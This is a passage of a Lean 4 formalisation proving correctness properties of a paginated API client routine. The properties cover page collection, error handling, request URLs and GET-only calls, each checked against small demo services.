theorem GetPaginated.loop_cfg_irrelevant {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg cfgA cfgB : EndpointCfg)
    (hA : cfgA.SuccessStatus = cfg.SuccessStatus) (hB : cfgB.SuccessStatus = cfg.SuccessStatus)
    (fuel : Nat) (acc : List T) (p : Int) (s : σ) :
    GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel cfgA acc p s
      = GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel cfgB acc p s := by
  cases fuel with
  | zero => rfl
  | succ fuel =>
    rw [GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgA hA,
      GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgB hB]

/-- What an invocation of the journalling client does. -/
theorem Client.logged_apply {σ P : Type} (client : Client σ P) (call : Call P) (s s1 : σ)
    (j : List (Invocation P)) (res : Except GoError Response)
    (h : client call s = (res, s1)) :
    client.logged call (s, j) = (res, (s1, j ++ [⟨call, res⟩])) := by
  simp [Client.logged, h]

/-- A walk of the client is a walk of the journalling client, whose journal
grows by one invocation per page. -/
theorem Walk.logged {σ P T : Type} (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T))) (call : Int → Call P)
    (envs : List (overlay (List T))) :
    ∀ (s : σ) (p : Int) (s1 : σ) (p1 : Int) (j : List (Invocation P)),
      Walk client Unmarshal call s p envs s1 p1 →
      ∃ j1, j1.length = envs.length ∧
        Walk client.logged Unmarshal call (s, j) p envs (s1, j ++ j1) p1 := by
  induction envs with
  | nil =>
    intro s p s1 p1 j h
    obtain ⟨hs, hp⟩ := h
    exact ⟨[], rfl, by simp [Walk, hs, hp]⟩
  | cons env rest ih =>
    intro s p s1 p1 j h
    obtain ⟨r, s0, hreq, hdec, hnext, hrest⟩ := h
    obtain ⟨j1, hlen, hwalk⟩ := ih s0 env.Cursor.Pages.Next s1 p1 (j ++ [⟨call p, .ok r⟩]) hrest
    refine ⟨⟨call p, .ok r⟩ :: j1, by simp [hlen], ?_⟩
    refine ⟨r, (s0, j ++ [⟨call p, .ok r⟩]), Client.logged_apply client (call p) s s0 j _ hreq,
      hdec, hnext, ?_⟩
    simpa [List.append_assoc] using hwalk

/-- Along a walk the loop consumes one unit of fuel per page and accumulates
the pages' items in order. -/
theorem GetPaginated.loop_walk {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (envs : List (overlay (List T))) :
    ∀ (cfgL : EndpointCfg) (s : σ) (p : Int) (s1 : σ) (p1 : Int) (acc : List T) (fuel : Nat),
      cfgL.SuccessStatus = cfg.SuccessStatus →
      Walk client Unmarshal (pageCall cfg token sortBy) s p envs s1 p1 →
      GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 (envs.length + fuel)
          cfgL acc p s
        = GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel
          cfg (acc ++ dataOf envs) p1 s1 := by
  induction envs with
  | nil =>
    intro cfgL s p s1 p1 acc fuel h hw
    obtain ⟨hs, hp⟩ := hw
    subst hs hp
    simpa [dataOf] using
      GetPaginated.loop_cfg_irrelevant errs client Unmarshal token sortBy cfg cfgL cfg h rfl
        fuel acc p1 s1
  | cons env rest ih =>
    intro cfgL s p s1 p1 acc fuel h hw
    obtain ⟨r, s0, hreq, hdec, hnext, hrest⟩ := hw
    have hfuel : (env :: rest).length + fuel = (rest.length + fuel) + 1 := by
      simp only [List.length_cons]; omega
    rw [hfuel, GetPaginated.loop_more errs client Unmarshal token sortBy cfg cfgL h _ acc p s s0
      r env hreq hdec hnext]
    rw [ih (pageCall (P := P) cfg token sortBy p).cfg s0 env.Cursor.Pages.Next s1 p1
      (acc ++ env.Data) fuel rfl hrest]
    simp [dataOf, List.append_assoc]

end api

namespace api

/-- The journal of a run of the loop: it only grows, by at most one invocation
per unit of fuel, and the invocations appended are those of `pageCall`, the
first for the page due on entry and each later one for the page named by the
envelope decoded just before. -/
theorem GetPaginated.loop_journal {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (fuel : Nat) :
    ∀ (cfgL : EndpointCfg) (acc : List T) (p : Int) (s : σ) (j : List (Invocation P)),
      cfgL.SuccessStatus = cfg.SuccessStatus →
      ∃ new, (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
            cfgL acc p (s, j)).2.2 = j ++ new
        ∧ new.length ≤ fuel
        ∧ FollowsCursor Unmarshal id (pageCall cfg token sortBy) p new := by
  induction fuel with
  | zero =>
    intro cfgL acc p s j _
    exact ⟨[], by simp [GetPaginated.loop], by simp, trivial⟩
  | succ fuel ih =>
    intro cfgL acc p s j h
    rw [GetPaginated.loop_succ errs client.logged Unmarshal token sortBy cfg cfgL h]
    rcases hres : client (pageCall cfg token sortBy p) s with ⟨res, s1⟩
    rw [Client.logged_apply client _ s s1 j res hres]
    cases res with
    | error e =>
      exact ⟨[⟨pageCall cfg token sortBy p, .error e⟩], rfl, by simp, rfl, Or.inl rfl⟩
    | ok r =>
      cases hdec : Unmarshal r.Body with
      | error d =>
        exact ⟨[⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hdec], by simp, rfl, Or.inl rfl⟩
      | ok env =>
        by_cases hnext : env.Cursor.Pages.Next = 0
        · exact ⟨[⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hdec, hnext], by simp, rfl,
            Or.inl rfl⟩
        · obtain ⟨new, hj, hlen, hfol⟩ :=
            ih (pageCall (P := P) cfg token sortBy p).cfg (acc ++ env.Data)
              env.Cursor.Pages.Next s1 (j ++ [⟨pageCall cfg token sortBy p, .ok r⟩]) rfl
          refine ⟨⟨pageCall cfg token sortBy p, .ok r⟩ :: new, ?_, by simp; omega, rfl,
            Or.inr ⟨r, env, rfl, hdec, hfol⟩⟩
          simp only [hdec, hnext, if_false]
          rw [hj]
          simp [List.append_assoc]

/-- Keeping the journal changes nothing else: a run with the journalling client
returns what the run with the client itself returns, and leaves the service in
the same state. -/
theorem GetPaginated.loop_logged_erase {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (fuel : Nat) :
    ∀ (cfgL : EndpointCfg) (acc : List T) (p : Int) (s : σ) (j : List (Invocation P)),
      cfgL.SuccessStatus = cfg.SuccessStatus →
      (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
          cfgL acc p (s, j)).1
        = (GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel cfgL acc p s).1
      ∧ (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
          cfgL acc p (s, j)).2.1
        = (GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel cfgL acc p s).2
      := by
  induction fuel with
  | zero => intro cfgL acc p s j _; exact ⟨rfl, rfl⟩
  | succ fuel ih =>
    intro cfgL acc p s j h
    rw [GetPaginated.loop_succ errs client.logged Unmarshal token sortBy cfg cfgL h,
      GetPaginated.loop_succ errs client Unmarshal token sortBy cfg cfgL h]
    rcases hres : client (pageCall cfg token sortBy p) s with ⟨res, s1⟩
    rw [Client.logged_apply client _ s s1 j res hres]
    cases res with
    | error e => exact ⟨rfl, rfl⟩
    | ok r =>
      cases hdec : Unmarshal r.Body with
      | error d => simp [hdec]
      | ok env =>
        by_cases hnext : env.Cursor.Pages.Next = 0
        · simp [hdec, hnext]
        · simp only [hdec, hnext, if_false]
          exact ih (pageCall (P := P) cfg token sortBy p).cfg (acc ++ env.Data)
            env.Cursor.Pages.Next s1 (j ++ [⟨pageCall cfg token sortBy p, .ok r⟩]) rfl

/-- Every invocation of a journal that follows the cursor is one of the calls
the journal is measured against. -/
theorem FollowsCursor.mem {P T : Type}
    (Unmarshal : List UInt8 → Except GoError (overlay (List T))) (call : Int → Call P)
    (journal : List (Invocation P)) :
    ∀ (p : Int), FollowsCursor Unmarshal id call p journal →
      ∀ inv ∈ journal, ∃ q, inv.call = call q := by
  induction journal with
  | nil => intro p _ inv hinv; simp at hinv
  | cons first rest ih =>
    intro p h inv hinv
    obtain ⟨hfirst, hrest⟩ := h
    rcases List.mem_cons.mp hinv with rfl | hmem
    · exact ⟨p, hfirst⟩
    · rcases hrest with rfl | ⟨r, env, _, _, hfol⟩
      · simp at hmem
      · exact ih env.Cursor.Pages.Next hfol inv hmem

/-- A journal that follows the cursor call by call follows it under every view
of the calls. -/
theorem FollowsCursor.view {P T κ : Type}
    (Unmarshal : List UInt8 → Except GoError (overlay (List T))) (call : Int → Call P)
    (view : Call P → κ) (journal : List (Invocation P)) :
    ∀ (p : Int), FollowsCursor Unmarshal id call p journal →
      FollowsCursor Unmarshal view (fun q => view (call q)) p journal := by
  induction journal with
  | nil => intro p _; trivial
  | cons first rest ih =>
    intro p h
    obtain ⟨hfirst, hrest⟩ := h
    refine ⟨by simpa using congrArg view hfirst, ?_⟩
    rcases hrest with rfl | ⟨r, env, hres, hdec, hfol⟩
    · exact Or.inl rfl
    · exact Or.inr ⟨r, env, hres, hdec, ih env.Cursor.Pages.Next hfol⟩

/-- While every request of page 1 is answered by an envelope naming page 1, the
loop uses up any amount of fuel without returning, one invocation per unit. -/
theorem GetPaginated.loop_self_cycle {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg)
    (hcycle : ∀ s, ∃ r s1 env, client (pageCall cfg token sortBy 1) s = (.ok r, s1)
      ∧ Unmarshal r.Body = .ok env ∧ env.Cursor.Pages.Next = 1)
    (fuel : Nat) :
    ∀ (cfgL : EndpointCfg) (acc : List T) (s : σ) (j : List (Invocation P)),
      cfgL.SuccessStatus = cfg.SuccessStatus →
      (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
          cfgL acc 1 (s, j)).1 = none
      ∧ (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
          cfgL acc 1 (s, j)).2.2.length = j.length + fuel := by
  induction fuel with
  | zero => intro cfgL acc s j _; simp [GetPaginated.loop]
  | succ fuel ih =>
    intro cfgL acc s j h
    obtain ⟨r, s1, env, hreq, hdec, hnext⟩ := hcycle s
    have hne : env.Cursor.Pages.Next ≠ 0 := by rw [hnext]; decide
    rw [GetPaginated.loop_more errs client.logged Unmarshal token sortBy cfg cfgL h fuel acc 1
      (s, j) (s1, j ++ [⟨pageCall cfg token sortBy 1, .ok r⟩]) r env
      (Client.logged_apply client _ s s1 j _ hreq) hdec hne, hnext]
    obtain ⟨h1, h2⟩ := ih (pageCall (P := P) cfg token sortBy 1).cfg (acc ++ env.Data) s1
      (j ++ [⟨pageCall cfg token sortBy 1, .ok r⟩]) rfl
    refine ⟨h1, ?_⟩
    rw [h2]
    simp only [List.length_append, List.length_singleton]
    omega

/-! ### The pagination claims -/

/-- C2: when the service answers the requests of pages 1, next_1, next_2, ...
with decodable envelopes `envs ++ [last]`, the last one being the first with
`Next = 0`, then `GetPaginated`, given fuel for that many iterations, returns
no error and exactly the items of these envelopes in fetch order, after exactly
one invocation per envelope. -/
theorem GetPaginated_collects_all_pages {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (s s1 s2 : σ) (p : Int)
    (envs : List (overlay (List T))) (r : Response) (last : overlay (List T))
    (hwalk : Walk client Unmarshal (pageCall cfg token sortBy) s 1 envs s1 p)
    (hreq : client (pageCall cfg token sortBy p) s1 = (.ok r, s2))
    (hdec : Unmarshal r.Body = .ok last) (hnext : last.Cursor.Pages.Next = 0)
    (fuel : Nat) (hfuel : envs.length + 1 ≤ fuel) :
    ∃ journal, journal.length = envs.length + 1 ∧
      GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])
        = (some (dataOf (envs ++ [last]), none), (s2, journal)) := by
  obtain ⟨j1, hlen, hw⟩ :=
    Walk.logged client Unmarshal (pageCall cfg token sortBy) envs s 1 s1 p [] hwalk
  obtain ⟨k, rfl⟩ : ∃ k, fuel = envs.length + (k + 1) := ⟨fuel - (envs.length + 1), by omega⟩
  refine ⟨j1 ++ [⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hlen], ?_⟩
  unfold GetPaginated
  rw [GetPaginated.loop_walk errs client.logged Unmarshal token sortBy cfg envs cfg (s, []) 1
    (s1, [] ++ j1) p [] (k + 1) rfl hw]
  rw [GetPaginated.loop_last errs client.logged Unmarshal token sortBy cfg cfg rfl k _ p
    (s1, [] ++ j1) (s2, ([] ++ j1) ++ [⟨pageCall cfg token sortBy p, .ok r⟩]) r last
    (Client.logged_apply client _ s1 s2 _ _ hreq) hdec hnext]
  simp [dataOf]

/-- C2, on the three-page service (`Next` = 2, 3, 0): all five items in page
order, three invocations. -/
theorem GetPaginated_collects_all_pages_witness :
    ∃ journal, journal.length = 2 + 1 ∧
      GetPaginated demo.errs demo.threePages.logged demo.Unmarshal 3 "tok" demo.cfg "" ((), [])
        = (some ([10, 11, 20, 30, 31], none), ((), journal)) :=
  GetPaginated_collects_all_pages demo.errs demo.threePages demo.Unmarshal "tok" "" demo.cfg
    () () () 3 [⟨[10, 11], demo.cursor 2⟩, ⟨[20], demo.cursor 3⟩] ⟨[3]⟩ ⟨[30, 31], demo.cursor 0⟩
    ⟨⟨[1]⟩, (), rfl, rfl, by decide, ⟨[2]⟩, (), rfl, rfl, by decide, rfl, rfl⟩
    rfl rfl rfl 3 (by decide)

/-- C3: when the request of some page fails with `e`, after any number of pages
fetched successfully, `GetPaginated` returns a nil result next to a non-nil
error, and the failed invocation is the last one it makes. -/
theorem GetPaginated_request_failure {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (s s1 s2 : σ) (p : Int)
    (envs : List (overlay (List T))) (e : GoError)
    (hwalk : Walk client Unmarshal (pageCall cfg token sortBy) s 1 envs s1 p)
    (hreq : client (pageCall cfg token sortBy p) s1 = (.error e, s2))
    (fuel : Nat) (hfuel : envs.length + 1 ≤ fuel) :
    ∃ journal err, journal.length = envs.length + 1
      ∧ journal.getLast? = some ⟨pageCall cfg token sortBy p, .error e⟩
      ∧ GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])
        = (some ([], some err), (s2, journal)) := by
  obtain ⟨j1, hlen, hw⟩ :=
    Walk.logged client Unmarshal (pageCall cfg token sortBy) envs s 1 s1 p [] hwalk
  obtain ⟨k, rfl⟩ : ∃ k, fuel = envs.length + (k + 1) := ⟨fuel - (envs.length + 1), by omega⟩
  refine ⟨j1 ++ [⟨pageCall cfg token sortBy p, .error e⟩],
    fmt.Errorf_s_w errs.ErrExecutingRequest e, by simp [hlen], by simp, ?_⟩
  unfold GetPaginated
  rw [GetPaginated.loop_walk errs client.logged Unmarshal token sortBy cfg envs cfg (s, []) 1
    (s1, [] ++ j1) p [] (k + 1) rfl hw]
  rw [GetPaginated.loop_exec_error errs client.logged Unmarshal token sortBy cfg cfg rfl k _ p
    (s1, [] ++ j1) (s2, ([] ++ j1) ++ [⟨pageCall cfg token sortBy p, .error e⟩]) e
    (Client.logged_apply client _ s1 s2 _ _ hreq)]
  simp

/-- C3, on a service whose second page is unavailable: the two items of page 1
are not returned. -/
theorem GetPaginated_request_failure_witness :
    ∃ journal err, journal.length = 1 + 1
      ∧ journal.getLast? = some ⟨pageCall demo.cfg "tok" "" 2,
          .error (.value "*api.Error" "service unavailable")⟩
      ∧ GetPaginated demo.errs
          (demo.onePageThen (.error (.value "*api.Error" "service unavailable"))).logged
          demo.Unmarshal 9 "tok" demo.cfg "" ((), [])
        = (some ([], some err), ((), journal)) :=
  GetPaginated_request_failure demo.errs
    (demo.onePageThen (.error (.value "*api.Error" "service unavailable"))) demo.Unmarshal
    "tok" "" demo.cfg () () () 2 [⟨[10, 11], demo.cursor 2⟩]
    (.value "*api.Error" "service unavailable")
    ⟨⟨[1]⟩, (), rfl, rfl, by decide, rfl, rfl⟩ rfl 9 (by decide)

/-- C4: a first page with no items and `Next = 0` makes `GetPaginated` return
an empty result and a nil error after one invocation. -/
theorem GetPaginated_empty_first_page {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (s s1 : σ) (r : Response)
    (env : overlay (List T))
    (hreq : client (pageCall cfg token sortBy 1) s = (.ok r, s1))
    (hdec : Unmarshal r.Body = .ok env) (hdata : env.Data = [])
    (hnext : env.Cursor.Pages.Next = 0) (fuel : Nat) (hfuel : 1 ≤ fuel) :
    ∃ result, result.length = 0 ∧
      GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])
        = (some (result, none), (s1, [⟨pageCall cfg token sortBy 1, .ok r⟩])) := by
  obtain ⟨k, rfl⟩ : ∃ k, fuel = k + 1 := ⟨fuel - 1, by omega⟩
  refine ⟨[], rfl, ?_⟩
  unfold GetPaginated
  rw [GetPaginated.loop_last errs client.logged Unmarshal token sortBy cfg cfg rfl k _ 1
    (s, []) (s1, [] ++ [⟨pageCall cfg token sortBy 1, .ok r⟩]) r env
    (Client.logged_apply client _ s s1 _ _ hreq) hdec hnext]
  simp [hdata]

/-- C4, on a service whose listing is empty. -/
theorem GetPaginated_empty_first_page_witness :
    ∃ result, result.length = 0 ∧
      GetPaginated demo.errs demo.emptyListing.logged demo.Unmarshal 1 "tok" demo.cfg "id"
          ((), [])
        = (some (result, none), ((), [⟨pageCall demo.cfg "tok" "id" 1, .ok ⟨[4]⟩⟩])) :=
  GetPaginated_empty_first_page demo.errs demo.emptyListing demo.Unmarshal "tok" "id" demo.cfg
    () () ⟨[4]⟩ ⟨[], demo.cursor 0⟩ rfl rfl rfl rfl 1 (by decide)

/-- C5: when the body of some page's response does not decode, after any number
of pages fetched successfully, `GetPaginated` stops there and returns a nil
result next to the decoding error. -/
theorem GetPaginated_decode_failure {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (s s1 s2 : σ) (p : Int)
    (envs : List (overlay (List T))) (r : Response) (d : GoError)
    (hwalk : Walk client Unmarshal (pageCall cfg token sortBy) s 1 envs s1 p)
    (hreq : client (pageCall cfg token sortBy p) s1 = (.ok r, s2))
    (hdec : Unmarshal r.Body = .error d)
    (fuel : Nat) (hfuel : envs.length + 1 ≤ fuel) :
    ∃ journal, journal.length = envs.length + 1
      ∧ journal.getLast? = some ⟨pageCall cfg token sortBy p, .ok r⟩
      ∧ GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])
        = (some ([], some (.wrapError (errs.ErrUnmarshallingResponse.Error ++ ": " ++ d.Error) d)),
            (s2, journal)) := by
  obtain ⟨j1, hlen, hw⟩ :=
    Walk.logged client Unmarshal (pageCall cfg token sortBy) envs s 1 s1 p [] hwalk
  obtain ⟨k, rfl⟩ : ∃ k, fuel = envs.length + (k + 1) := ⟨fuel - (envs.length + 1), by omega⟩
  refine ⟨j1 ++ [⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hlen], by simp, ?_⟩
  unfold GetPaginated
  rw [GetPaginated.loop_walk errs client.logged Unmarshal token sortBy cfg envs cfg (s, []) 1
    (s1, [] ++ j1) p [] (k + 1) rfl hw]
  rw [GetPaginated.loop_decode_error errs client.logged Unmarshal token sortBy cfg cfg rfl k _ p
    (s1, [] ++ j1) (s2, ([] ++ j1) ++ [⟨pageCall cfg token sortBy p, .ok r⟩]) r d
    (Client.logged_apply client _ s1 s2 _ _ hreq) hdec]
  simp [fmt.Errorf_s_w]

/-- C5, on a service whose second page has a malformed body. -/
theorem GetPaginated_decode_failure_witness :
    ∃ journal, journal.length = 1 + 1
      ∧ journal.getLast? = some ⟨pageCall demo.cfg "tok" "" 2, .ok ⟨[9]⟩⟩
      ∧ GetPaginated demo.errs (demo.onePageThen (.ok ⟨[9]⟩)).logged demo.Unmarshal 2 "tok"
          demo.cfg "" ((), [])
        = (some ([], some (.wrapError
              "failed to unmarshal response: unexpected end of JSON input"
              (.value "*json.SyntaxError" "unexpected end of JSON input"))), ((), journal)) :=
  GetPaginated_decode_failure demo.errs (demo.onePageThen (.ok ⟨[9]⟩)) demo.Unmarshal
    "tok" "" demo.cfg () () () 2 [⟨[10, 11], demo.cursor 2⟩] ⟨[9]⟩
    (.value "*json.SyntaxError" "unexpected end of JSON input")
    ⟨⟨[1]⟩, (), rfl, rfl, by decide, rfl, rfl⟩ rfl rfl 2 (by decide)

/-- The journal of a run of the loop does not stop short: it has one invocation
per unit of fuel, unless its last invocation ended the loop, by failing, by a
body that does not decode, or by an envelope with `Next = 0`. -/
theorem GetPaginated.loop_journal_until_end {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (fuel : Nat) :
    ∀ (cfgL : EndpointCfg) (acc : List T) (p : Int) (s : σ) (j : List (Invocation P)),
      cfgL.SuccessStatus = cfg.SuccessStatus →
      ∃ new, (GetPaginated.loop errs client.logged Unmarshal token sortBy cfg.Url 25 fuel
            cfgL acc p (s, j)).2.2 = j ++ new
        ∧ (new.length = fuel
          ∨ ∃ last, new.getLast? = some last
            ∧ ∀ r env, last.result = .ok r → Unmarshal r.Body = .ok env
              → env.Cursor.Pages.Next = 0) := by
  induction fuel with
  | zero =>
    intro cfgL acc p s j _
    exact ⟨[], by simp [GetPaginated.loop], Or.inl rfl⟩
  | succ fuel ih =>
    intro cfgL acc p s j h
    rw [GetPaginated.loop_succ errs client.logged Unmarshal token sortBy cfg cfgL h]
    rcases hres : client (pageCall cfg token sortBy p) s with ⟨res, s1⟩
    rw [Client.logged_apply client _ s s1 j res hres]
    cases res with
    | error e =>
      exact ⟨[⟨pageCall cfg token sortBy p, .error e⟩], rfl,
        Or.inr ⟨_, rfl, fun r env hr _ => nomatch hr⟩⟩
    | ok r =>
      cases hdec : Unmarshal r.Body with
      | error d =>
        refine ⟨[⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hdec],
          Or.inr ⟨_, rfl, fun r1 env hr henv => ?_⟩⟩
        have hr1 : r = r1 := by
          have h2 : (Except.ok r : Except GoError Response) = Except.ok r1 := hr
          exact Except.ok.inj h2
        rw [← hr1, hdec] at henv
        exact nomatch henv
      | ok env =>
        by_cases hnext : env.Cursor.Pages.Next = 0
        · refine ⟨[⟨pageCall cfg token sortBy p, .ok r⟩], by simp [hdec, hnext],
            Or.inr ⟨_, rfl, fun r1 env1 hr henv => ?_⟩⟩
          have hr1 : r = r1 := by
            have h2 : (Except.ok r : Except GoError Response) = Except.ok r1 := hr
            exact Except.ok.inj h2
          rw [← hr1, hdec] at henv
          rw [← Except.ok.inj henv]
          exact hnext
        · obtain ⟨new, hj, hend⟩ :=
            ih (pageCall (P := P) cfg token sortBy p).cfg (acc ++ env.Data)
              env.Cursor.Pages.Next s1 (j ++ [⟨pageCall cfg token sortBy p, .ok r⟩]) rfl
          refine ⟨⟨pageCall cfg token sortBy p, .ok r⟩ :: new, ?_, ?_⟩
          · simp only [hdec, hnext, if_false]
            rw [hj]
            simp [List.append_assoc]
          · rcases hend with hlen | ⟨last, hlast, hstop⟩
            · exact Or.inl (by simp [hlen])
            · refine Or.inr ⟨last, ?_, hstop⟩
              cases new with
              | nil => simp at hlast
              | cons x xs => rw [List.getLast?_cons_cons]; exact hlast

/-- C6: in every run of `GetPaginated`, finished or not, the URL of the first
request is `cfg.Url ++ "?page=1&perPage=25"`, the URL of each later request is
the same with the page number replaced by the `Next` of the envelope decoded
just before, and `"&sortBy=" ++ sortBy` follows exactly when `sortBy` is not
empty; nothing of an earlier URL is carried into a later one. The requests are
made: with any fuel at all the request of page 1 is the first invocation, and
the journal has one invocation per unit of fuel unless its last invocation
ended the loop (it failed, or its body did not decode, or it named no next
page). -/
theorem GetPaginated_request_urls {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (fuel : Nat) (s : σ) :
    FollowsCursor Unmarshal (fun call : Call P => call.cfg.Url)
      (fun p => cfg.Url ++ "?page=" ++ fmt.Sprintd p ++ "&perPage=25"
        ++ (if sortBy = "" then "" else "&sortBy=" ++ sortBy))
      1 (GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])).2.2
    ∧ (∃ first rest,
        (GetPaginated errs client.logged Unmarshal (fuel + 1) token cfg sortBy (s, [])).2.2
          = first :: rest
        ∧ first.call.cfg.Url = cfg.Url ++ "?page=" ++ fmt.Sprintd 1 ++ "&perPage=25"
          ++ (if sortBy = "" then "" else "&sortBy=" ++ sortBy))
    ∧ ((GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])).2.2.length
          = fuel
      ∨ ∃ last,
        (GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])).2.2.getLast?
          = some last
        ∧ ∀ r env, last.result = .ok r → Unmarshal r.Body = .ok env
          → env.Cursor.Pages.Next = 0) := by
  refine ⟨?_, ?_, ?_⟩
  · obtain ⟨new, hj, _, hfol⟩ :=
      GetPaginated.loop_journal errs client Unmarshal token sortBy cfg fuel cfg [] 1 s [] rfl
    unfold GetPaginated
    rw [hj]
    exact FollowsCursor.view Unmarshal (pageCall cfg token sortBy) (fun call => call.cfg.Url)
      ([] ++ new) 1 (by simpa using hfol)
  · obtain ⟨new, hj, _, hfol⟩ :=
      GetPaginated.loop_journal errs client Unmarshal token sortBy cfg (fuel + 1) cfg [] 1 s []
        rfl
    obtain ⟨new2, hj2, hend⟩ :=
      GetPaginated.loop_journal_until_end errs client Unmarshal token sortBy cfg (fuel + 1) cfg
        [] 1 s [] rfl
    unfold GetPaginated
    rw [hj, List.nil_append] at hj2
    subst hj2
    rw [hj, List.nil_append]
    cases new with
    | nil =>
      rcases hend with hlen | ⟨last, hlast, _⟩
      · simp at hlen
      · simp at hlast
    | cons first rest =>
      refine ⟨first, rest, rfl, ?_⟩
      have hfirst : first.call = pageCall cfg token sortBy 1 := hfol.1
      rw [hfirst]
      rfl
  · obtain ⟨new, hj, hend⟩ :=
      GetPaginated.loop_journal_until_end errs client Unmarshal token sortBy cfg fuel cfg
        [] 1 s [] rfl
    unfold GetPaginated
    rw [hj, List.nil_append]
    exact hend

/-- C6, on a service that answers with the three pages in turn, listing sorted
by `name`: the three requests and their URLs. -/
theorem GetPaginated_request_urls_witness :
    (GetPaginated demo.errs demo.scripted.logged demo.Unmarshal 5 "tok" demo.cfg "name"
          ([.ok ⟨[1]⟩, .ok ⟨[2]⟩, .ok ⟨[3]⟩], [])).2.2.map (fun inv => inv.call.cfg.Url)
        = ["https://h/v4/things?page=1&perPage=25&sortBy=name",
           "https://h/v4/things?page=2&perPage=25&sortBy=name",
           "https://h/v4/things?page=3&perPage=25&sortBy=name"]
      ∧ (GetPaginated demo.errs demo.scripted.logged demo.Unmarshal 5 "tok" demo.cfg ""
          ([.ok ⟨[1]⟩, .ok ⟨[2]⟩, .ok ⟨[3]⟩], [])).2.2.map (fun inv => inv.call.cfg.Url)
        = ["https://h/v4/things?page=1&perPage=25",
           "https://h/v4/things?page=2&perPage=25",
           "https://h/v4/things?page=3&perPage=25"]
      ∧ FollowsCursor demo.Unmarshal (fun call : Call Unit => call.cfg.Url)
          (fun p => demo.cfg.Url ++ "?page=" ++ fmt.Sprintd p ++ "&perPage=25"
            ++ (if "name" = "" then "" else "&sortBy=" ++ "name"))
          1 (GetPaginated demo.errs demo.scripted.logged demo.Unmarshal 5 "tok" demo.cfg "name"
            ([.ok ⟨[1]⟩, .ok ⟨[2]⟩, .ok ⟨[3]⟩], [])).2.2 :=
  ⟨by decide, by decide,
    (GetPaginated_request_urls demo.errs demo.scripted demo.Unmarshal "tok" "name" demo.cfg 5
      [.ok ⟨[1]⟩, .ok ⟨[2]⟩, .ok ⟨[3]⟩]).1⟩

/-- C7: every invocation `GetPaginated` makes is a GET without payload and
without extra headers that carries the caller's token and success status; and
replacing the `Method` of the caller's `cfg` by any other changes nothing in
the run: same result, same final state, same journal of requests. -/
theorem GetPaginated_always_get {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (fuel : Nat) (s : σ) (m : String)
    (inv : Invocation P)
    (hinv : inv ∈ (GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, [])).2.2) :
    (inv.call.cfg.Method = "GET" ∧ inv.call.payload = none ∧ inv.call.headers = none
        ∧ inv.call.token = token ∧ inv.call.cfg.SuccessStatus = cfg.SuccessStatus)
      ∧ GetPaginated errs client.logged Unmarshal fuel token { cfg with Method := m } sortBy
          (s, [])
        = GetPaginated errs client.logged Unmarshal fuel token cfg sortBy (s, []) := by
  constructor
  · obtain ⟨new, hj, _, hfol⟩ :=
      GetPaginated.loop_journal errs client Unmarshal token sortBy cfg fuel cfg [] 1 s [] rfl
    unfold GetPaginated at hinv
    rw [hj] at hinv
    obtain ⟨q, hq⟩ := FollowsCursor.mem Unmarshal (pageCall cfg token sortBy) new 1 hfol inv
      (by simpa using hinv)
    rw [hq]
